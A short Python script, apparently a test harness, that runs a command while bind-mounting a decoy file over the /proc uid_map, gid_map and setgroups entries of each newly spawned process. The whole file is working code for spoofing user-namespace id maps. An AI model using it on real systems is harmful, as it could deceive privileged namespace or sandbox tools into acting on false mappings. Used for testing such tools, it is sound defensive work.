"""Somebody who prepared the mount namespace: planted.py DECOY COMMAND... runs COMMAND while it covers the id maps of
every process that comes to be with DECOY, and exits as COMMAND does.
"""
import ctypes, os, sys, time

MS_BIND = 4096
libc = ctypes.CDLL(None)
decoy, command = sys.argv[1].encode(), sys.argv[2:]
first, covered = os.getpid() + 1, set()
child = os.fork()
if child == 0:
    time.sleep(0.1)
    os.execvp(command[0], command)
while True:
    for pid in range(first, first + 100):
        if pid in covered or libc.mount(decoy, b"/proc/%d/uid_map" % pid, None, MS_BIND, None):
            continue
        covered.add(pid)
        for file in (b"gid_map", b"setgroups"):
            libc.mount(decoy, b"/proc/%d/%s" % (pid, file), None, MS_BIND, None)
        first = max(first, pid - 50)
    done, status = os.waitpid(child, os.WNOHANG)
    if done:
        sys.exit(os.waitstatus_to_exitcode(status) & 255)
